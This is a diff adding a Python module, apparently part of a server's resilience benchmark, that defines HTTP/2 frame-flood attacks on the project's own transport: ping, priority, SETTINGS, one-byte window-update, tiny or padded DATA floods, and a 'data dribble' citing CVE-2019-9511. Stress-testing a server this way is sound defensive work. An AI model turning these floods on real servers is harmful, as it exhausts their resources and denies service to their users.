@@ -1,0 +1,65 @@
+"""Floods of small frames, each of which makes the server work or answer."""
+
+from functools import partial
+
+from benchmarks.attacks.link import CLASSIFY, Attack, Link, Pieces, cancel, data, headers, priority, request
+from serving.transport import frames
+
+_FRAMES_A_PIECE = 1000
+_DATA_FRAMES_A_PIECE = 200
+_BYTES_OF_AN_ANSWER = 500
+_DRIBBLE_STREAMS = 64
+_PADDING_BYTES = 255
+
+
+def _frames(link: Link, frame: bytes) -> Pieces:
+    """Send one frame again and again, after a call has begun."""
+    yield from link.ready()
+    yield headers(link.next_stream(), CLASSIFY)
+    while True:
+        yield frame * _FRAMES_A_PIECE
+
+
+def _data(link: Link, payload: bytes, padding: int = 0) -> Pieces:
+    """Send messages in tiny DATA frames. A call is given up when its message is complete."""
+    yield from link.ready()
+    flags, start, end = (frames.PADDED, bytes([padding]), bytes(padding)) if padding else (0, b"", b"")
+    message = request(40)
+    while True:
+        stream, room = link.next_stream(), link.stream_window
+        yield headers(stream, CLASSIFY)
+        size = len(start + payload + end)
+        count = min(len(message), room // size) if size else _FRAMES_A_PIECE
+        for at in range(0, count, _DATA_FRAMES_A_PIECE):
+            several = min(_DATA_FRAMES_A_PIECE, count - at)
+            yield from link.room(size * several)
+            pieces = (message[one : one + len(payload)] for one in range(at, at + several))
+            yield b"".join(frames.frame(frames.DATA, flags, stream, start + piece + end) for piece in pieces)
+        yield cancel(stream)
+
+
+def _dribble(link: Link) -> Pieces:
+    """Open the windows of many answers by one byte at a time (CVE-2019-9511)."""
+    yield from link.ready()
+    message = request()
+    while True:
+        streams = [link.next_stream() for _ in range(min(_DRIBBLE_STREAMS, link.max_streams))]
+        yield from link.room(len(streams) * len(message))
+        yield b"".join(headers(stream, CLASSIFY) + data(stream, message) for stream in streams)
+        for _ in range(_BYTES_OF_AN_ANSWER):
+            yield b"".join(frames.window_update(stream, 1) for stream in streams)
+        yield b"".join(cancel(stream) for stream in streams)
+
+
+FLOODS = (
+    Attack("data dribble", _dribble, settings={frames.INITIAL_WINDOW_SIZE: 0}),
+    Attack("ping flood", partial(_frames, frame=frames.frame(frames.PING, 0, 0, bytes(8)))),
+    Attack("priority flood", partial(_frames, frame=priority(1))),
+    Attack("empty SETTINGS", partial(_frames, frame=frames.settings({}))),
+    Attack("window updates of 1 byte", partial(_frames, frame=frames.window_update(0, 1))),
+    Attack("stream window updates of 1 byte", partial(_frames, frame=frames.window_update(1, 1))),
+    Attack("unknown frames", partial(_frames, frame=frames.frame(0x2A, 0, 0))),
+    Attack("empty DATA", partial(_data, payload=b"")),
+    Attack("DATA of 1 byte", partial(_data, payload=b"x")),
+    Attack("padding", partial(_data, payload=b"x", padding=_PADDING_BYTES)),
+)
